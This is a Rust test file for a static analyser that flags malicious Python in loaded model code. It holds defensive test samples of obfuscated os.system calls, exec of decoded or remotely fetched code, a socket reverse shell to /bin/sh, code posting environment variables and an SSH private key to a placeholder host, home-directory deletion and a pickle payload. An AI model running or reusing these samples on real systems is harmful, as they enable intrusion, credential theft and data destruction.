use super::*;
use crate::core::testing;

fn dangers(source: &str) -> Vec<(String, Danger, Reach)> {
    analyse(source).calls.into_iter().filter_map(|c| c.danger.map(|d| (c.name, d, c.reach))).collect()
}

fn only(source: &str) -> (String, Danger, Reach) {
    let mut found = dangers(source);
    assert_eq!(found.len(), 1, "{source}: {found:?}");
    found.remove(0)
}

#[test]
fn resolves_every_way_to_say_os_system() {
    for source in [
        "import os\nos.system('id')",
        "import os as o\no.system('id')",
        "from os import system\nsystem('id')",
        "from os import (system as s,\n  path)\ns('id')",
        "from os import *\nsystem('id')",
        "import os\ns = os.system\ns('id')",
        "import os\na, b = 1, os.system\nb('id')",
        "import os\nclass A:\n  run = os.system\n  run('id')",
        "__import__('os').system('id')",
        "__import__('o' + 's').system('id')",
        "getattr(__import__('os'), 'system')('id')",
        "import os\ngetattr(os, 'sys' 'tem')('id')",
        "import importlib\nimportlib.import_module('os').system('id')",
        "import os\nvars(os)['system']('id')",
        "import os\nos.__dict__['system']('id')",
        "import sys\nsys.modules['os'].system('id')",
        "(lambda: __import__('os').system('id'))()",
        "x = f\"{__import__('os').system('id')}\"",
        "x = [__import__('os').system(c) for c in ['id']]",
        "exec(\"import os\\nos.system('id')\")",
        "eval(compile(\"__import__('os').system('id')\", '', 'eval'))",
        "import os\nif (s := os.system): s('id')",
        "from functools import partial\nimport os\np = partial(print); partial(os.system, 'id')()",
        "import os\n(((((((os)))).system)))('id')",
        "import pkgutil\npkgutil.resolve_name('os:system')('id')",
        "def get():\n  return __import__('os')\nget().system('id')",
    ] {
        let found = dangers(source);
        assert!(!found.is_empty(), "{source}");
        assert!(
            found.iter().all(|(n, d, r)| n == "os.system" && *d == Danger::RunsCommand && *r == Reach::Import),
            "{source}: {found:?}"
        );
    }
}

#[test]
fn decodes_names_that_are_built_from_parts() {
    for source in [
        "getattr(__import__('so'[::-1]), 'metsys'[::-1])('id')",
        "__import__(chr(111) + chr(115)).system('id')",
        "__import__(''.join(map(chr, [111, 115]))).system('id')",
        "__import__(''.join([chr(111), chr(115)])).system('id')",
        "__import__(bytes([111, 115]).decode()).system('id')",
        "__import__(bytes.fromhex('6f73').decode()).system('id')",
        "import base64 as b\n__import__(b.b64decode('b3M=').decode()).system('id')",
        "import codecs\n__import__(codecs.decode('bf', 'rot13')).system('id')",
        "__import__('\\x6f\\163').system('id')",
    ] {
        let found = dangers(source);
        assert!(found.iter().any(|(n, d, _)| n == "os.system" && *d == Danger::RunsCommand), "{source}: {found:?}");
    }
    assert_eq!(only("import x\n__import__(''.join(chr(c ^ 7) for c in [104])).f()").1, Danger::HidesNames);
}

#[test]
fn decoded_text_is_analysed_where_it_is_executed() {
    let source = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=='))";
    let analysis = analyse(source);
    let exec = analysis.dangers(Danger::EvaluatesText).next().unwrap();
    assert!(exec.origin.decoded && exec.at_import());
    assert_eq!(analysis.dangers(Danger::RunsCommand).next().unwrap().line, 2);
    let zlib = "import zlib,base64\nexec(zlib.decompress(base64.b64decode(blob)))";
    assert!(analyse(zlib).dangers(Danger::EvaluatesText).next().unwrap().origin.decoded);
    let fetched = "import requests\nexec(requests.get('https://example.invalid').text)";
    assert!(analyse(fetched).dangers(Danger::EvaluatesText).next().unwrap().origin.remote);
}

#[test]
fn constant_text_that_does_nothing_is_no_evaluation() {
    assert_eq!(dangers("exec('x = 1')"), []);
    assert_eq!(dangers("model.eval()\nself.eval()\nre.compile(x)\nmodel.compile(opt)"), []);
    assert_eq!(dangers("def compile(x): pass\ndef exec(y): pass\ncompile(z)\nexec(z)"), []);
}

#[test]
fn tells_when_a_call_runs() {
    let reach = |source: &str| only(source).2;
    assert_eq!(reach("import os\ndef f():\n  os.system('id')\n"), Reach::Function);
    assert_eq!(reach("import os\ndef f():\n  os.system('id')\nf()\n"), Reach::Import);
    assert_eq!(reach("import os\ndef f():\n  def g():\n    os.system('id')\n  g()\nf()\n"), Reach::Import);
    assert_eq!(reach("import os\ndef f(): os.system('id')\nx = 1\n"), Reach::Function);
    assert_eq!(reach("import os\ndef f(): pass\nos.system('id')\n"), Reach::Import);
    assert_eq!(reach("import os\nclass A(B):\n  def __init__(self):\n    os.system('id')\n"), Reach::Hook);
    assert_eq!(reach("import os\nclass A:\n  def __init__(self):\n    os.system('id')\n"), Reach::Function);
    assert_eq!(reach("import os\nclass A:\n  def __init__(self):\n    os.system('id')\nA()\n"), Reach::Import);
    assert_eq!(
        reach("import os\nclass A(B):\n  def forward(self):\n    self._x()\n  def _x(self):\n    os.system('id')\n"),
        Reach::Hook
    );
    assert_eq!(reach("import os\nif __name__ == '__main__':\n  os.system('id')\n"), Reach::Script);
    assert_eq!(reach("import os\nif __name__ == '__main__' or 1:\n  os.system('id')\n"), Reach::Import);
    assert_eq!(reach("import os\nif __name__ == '__main__':\n  pass\nelse:\n  os.system('id')\n"), Reach::Import);
    assert_eq!(reach("import os\n@print\ndef f(): pass\n@f\ndef g(x=os.system('id')): pass\n"), Reach::Import);
    assert_eq!(
        reach("import os\ntry:\n  import x\nexcept ImportError:\n  os.system('pip install x')\n"),
        Reach::Import
    );
    assert_eq!(reach("import atexit, os\ndef f():\n  os.system('id')\natexit.register(f)\n"), Reach::Import);
}

#[test]
fn functions_handed_over_count_as_called() {
    assert_eq!(only("import os\nlist(map(os.system, ['id']))").0, "os.system");
    assert_eq!(only("import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()").0, "os.system");
    assert_eq!(only("import os\nclass A:\n  def __reduce__(self):\n    return (os.system, ('id',))\n").0, "os.system");
    assert_eq!(dangers("import subprocess\nf(stdout=subprocess.PIPE)"), []);
}

#[test]
fn parameters_and_locals_hide_modules_of_the_same_name() {
    assert_eq!(dangers("def f(socket, os):\n  os.system('x')\n  socket.socket()\n"), []);
    assert_eq!(dangers("class A:\n  def eval(self): pass\nA().eval()\n"), []);
}

#[test]
fn strings_and_comments_are_not_code() {
    assert_eq!(dangers("'''import os\nos.system('id')'''\n# os.system('id')\nx = \"os.system('id')\"\n"), []);
}

#[test]
fn embedded_payloads_are_handed_on() {
    let analysis = analyse("import pickle, base64\npickle.loads(base64.b64decode('gAJjb3MKc3lzdGVtCi4='))");
    assert_eq!(analysis.payloads.len(), 1);
    assert_eq!(analysis.payloads[0].bytes, b"\x80\x02cos\nsystem\n.");
}

/// Verdict and rules for `source` as a module that a loader imports.
fn judged(source: &str, trust: Trust) -> (weighbridge_types::Verdict, Vec<String>) {
    let outcome = testing::with_inspection(|ctx| {
        inspect(ctx, source, "", trust);
        ctx.shared.outcome.take()
    });
    (testing::verdict(&outcome), testing::rules(&outcome).into_iter().map(str::to_owned).collect())
}

#[test]
fn attacks_at_load_are_malicious() {
    use weighbridge_types::Verdict::{Malicious, Suspicious};
    for (source, rule) in [
        ("import os\nos.system('id')", "python-runs-command-at-load"),
        ("import subprocess as s\ns.Popen(['sh', '-c', 'id'])", "python-runs-command-at-load"),
        ("import base64\nexec(base64.b64decode(X))", "python-executes-hidden-code"),
        ("import requests\nexec(requests.get(U).text)", "python-executes-hidden-code"),
        (
            "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('192.0.2.1',1))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
            "python-reverse-shell",
        ),
        (
            "import os, requests\nrequests.post('https://example.invalid', json=dict(os.environ))",
            "python-sends-secrets",
        ),
        (
            "import os, requests\nrequests.post(U, data=open(os.path.expanduser('~/.ssh/id_rsa')).read())",
            "python-sends-secrets",
        ),
        ("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", "python-destroys-files"),
        ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')", "python-plants-file"),
    ] {
        let (verdict, rules) = judged(source, Trust::Loaded);
        assert_eq!(verdict, Malicious, "{source}: {rules:?}");
        assert!(rules.iter().any(|r| r == rule), "{source}: {rules:?}");
    }
    let received = "import socket, os\ns = socket.create_connection(A)\nwhile 1:\n  os.popen(s.recv(99).decode())";
    assert!(judged(received, Trust::Beside).1.iter().any(|r| r == "python-reverse-shell"));
    for source in [
        "def f(x):\n  return eval(x)",
        "import subprocess\ndef f(x):\n  subprocess.run(x)",
        "import urllib.request\nurllib.request.urlopen('https://example.invalid')",
        "import ctypes\nlib = ctypes.CDLL('./x.so')",
        "().__class__.__bases__[0].__subclasses__()",
    ] {
        let (verdict, rules) = judged(source, Trust::Loaded);
        assert_eq!(verdict, Suspicious, "{source}: {rules:?}");
    }
}

#[test]
fn honest_model_code_is_clean() {
    for source in [
        "import os, json, torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\nclass M(PreTrainedModel):\n  def __init__(self, config):\n    super().__init__(config)\n    self.path = os.path.join(config.dir, 'x')\n    with open(self.path) as f:\n      self.vocab = json.load(f)\n  def forward(self, x):\n    self.eval()\n    return torch.load('x')\n",
        "import requests\nfrom PIL import Image\ndef load(url):\n  return Image.open(requests.get(url, stream=True).raw)\n",
        "import subprocess\ndef load_audio(file):\n  cmd = ['ffmpeg', '-i', file]\n  return subprocess.run(cmd, capture_output=True).stdout\n",
        "import os\nTOKEN = os.environ.get('HF_TOKEN')\nos.environ['X'] = '1'\nos.makedirs('x', exist_ok=True)\n",
        "import socket\ndef free_port():\n  with socket.socket() as s:\n    s.bind(('', 0))\n    return s.getsockname()[1]\n",
        "import importlib\ndef f(name):\n  return getattr(importlib.import_module(name), 'X')\n",
    ] {
        let (verdict, rules) = judged(source, Trust::Loaded);
        assert_eq!(verdict, weighbridge_types::Verdict::Clean, "{source}: {rules:?}");
    }
}

#[test]
fn time_and_memory_stay_linear() {
    let sources = [
        "(".repeat(300_000),
        "[".repeat(300_000) + &"]".repeat(300_000),
        "a = a + a\n".repeat(50_000),
        format!("a = 'x' * 1000000\n{}", "a = a + a\n".repeat(1000)),
        "f'{f'{".repeat(50_000),
        format!("x = {}", "f\"{".repeat(10_000)),
        "a.".repeat(200_000),
        "exec(\"exec('exec(1)')\")\n".repeat(5_000),
        "not ".repeat(200_000),
        "lambda: ".repeat(100_000),
        "class A:\n def f(self): self.f(); A()\n".repeat(10_000),
        "os.system('x');".repeat(50_000),
        "from os import *\n".repeat(1000) + &"q()\n".repeat(5_000),
        "\u{feff}\0\u{1}\u{2028}\\".repeat(10_000),
        "'\\".repeat(100_000),
        "if x:\n".repeat(100_000),
        "def f(a=(b:=c)):\n".repeat(30_000),
        "class A: ".repeat(20_000) + &"a,f(),".repeat(50_000),
        "if __name__ == '__main__': ".repeat(20_000) + &"f();".repeat(50_000),
        format!("x = [{}]", "1,".repeat(800_000)),
        "(x for x in ".repeat(50_000),
        "a = (lambda x: ".repeat(50_000),
    ];
    let start = std::time::Instant::now();
    for source in &sources {
        let before = start.elapsed();
        let _ = analyse(source);
        let taken = start.elapsed() - before;
        assert!(taken.as_secs() < 10, "{:?}… took {taken:?}", &source.chars().take(20).collect::<String>());
    }
}

#[test]
fn spending_the_budget_hides_nothing() {
    let burnt = format!("{}__import__('os').system('id')\n", "a = 'x' * 1000000\n".repeat(40));
    let analysis = analyse(&burnt);
    assert!(analysis.incomplete);
    assert_eq!(analysis.dangers(Danger::RunsCommand).count(), 1);
    let table = analyse(&format!("x = [{}]", "1,".repeat(800_000)));
    assert!(!table.incomplete);
    let stars = format!("{}from os import *\nsystem('id')\n", "from json import *\n".repeat(100));
    assert_eq!(only(&stars).0, "os.system");
}

#[test]
fn survives_any_cut_and_change() {
    let sample = "import os as o\nfrom a import (b, c as d)\n@x\nclass A(B, metaclass=C):\n  def f(self, a: int = 1, *b, **c) -> d:\n    return f'{a!r:>{w}} {{}}' + rb'\\x' '''t''' if x else [i for i in y][::-1]\nif __name__ == '__main__':\n  o.system('id')\nexec(\"x\")\nlambda a=1: a\nx: int = y = 3; z += 1\nasync def g(): await h\nwith a as b, c as d: pass\n";
    for at in (0..sample.len()).filter(|n| sample.is_char_boundary(*n)) {
        let _ = analyse(&sample[..at]);
        let _ = analyse(&sample[at..]);
        for with in ["(", "'", "\"\"\"", "\n", "{", "\\", "f'", "é"] {
            let _ = analyse(&format!("{}{with}{}", &sample[..at], &sample[at..]));
        }
    }
}
